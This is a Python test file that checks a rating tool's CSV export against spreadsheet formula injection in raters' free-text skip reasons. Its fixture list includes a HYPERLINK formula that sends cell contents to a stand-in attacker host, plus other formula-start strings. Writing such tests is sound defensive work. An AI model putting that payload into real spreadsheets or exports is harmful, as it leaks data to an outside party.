"""`cpdm export` CSV: raters' free text never becomes a live spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import csv
import json

import pandas as pd

from cpdm.analysis.data import write_table
from cpdm.rating.assignment import next_item
from cpdm.rating.auth import create_rater
from cpdm.cli import cli
from cpdm.rating.submit import submit
from tests.rating_fixtures import ANSWERS, make_world

REASONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "plain text", "a=b"]


def _rated_and_skipped(ws):
    """A campaign where one rater answered one pair and skipped the others, one reason each."""
    make_world(ws, 4, 2, overlap={"artist": 1})
    rater, _ = create_rater(ws, "ann", "artist")
    item = next_item(ws, rater)
    submit(ws, rater, item.campaign, item.pair, ANSWERS, nonce="answered-0001")
    for number, reason in enumerate(REASONS):
        item = next_item(ws, rater)
        submit(ws, rater, item.campaign, item.pair, None, nonce=f"skipped-{number:05d}", skip_reason=reason)


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(ws, runner, tmp_path):
    _rated_and_skipped(ws)
    out = tmp_path / "ratings.csv"
    result = runner.invoke(cli, ["export", "--campaign", "study", "--out", str(out), "--workspace", str(ws.root)])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    reasons = {row["skip_reason"] for row in rows if row["skip_reason"]}
    assert reasons == {"'" + r for r in REASONS[:4]} | {"plain text", "a=b"}
    answered = [row for row in rows if row["value"]]
    assert sorted((row["question"], row["value"]) for row in answered) == sorted((q, str(v)) for q, v in ANSWERS.items())
    for row in rows:
        float(row["seconds"]), int(row["pair"]), int(row["anchor"])  # plain numbers, no apostrophe


def test_other_formats_keep_the_text_exactly(ws, runner, tmp_path):
    _rated_and_skipped(ws)
    out = tmp_path / "ratings.jsonl"
    args = ["export", "--campaign", "study", "--format", "jsonl", "--out", str(out), "--workspace", str(ws.root)]
    assert runner.invoke(cli, args).exit_code == 0
    reasons = {json.loads(line)["skip_reason"] for line in out.read_text().splitlines()} - {None}
    assert reasons == set(REASONS)


def test_tab_and_carriage_return_starts_are_neutralised_too(tmp_path):
    frame = pd.DataFrame({"text": ["\t=1+1", "\r=1+1", "-x", "ok\r\nnext line"], "number": [-1.5, 2.0, -3.0, 4.0]})
    path = write_table(frame, tmp_path / "t.csv", "csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["text"] for row in rows] == ["'\t=1+1", "'\r=1+1", "'-x", "ok\r\nnext line"]
    assert [float(row["number"]) for row in rows] == [-1.5, 2.0, -3.0, 4.0]
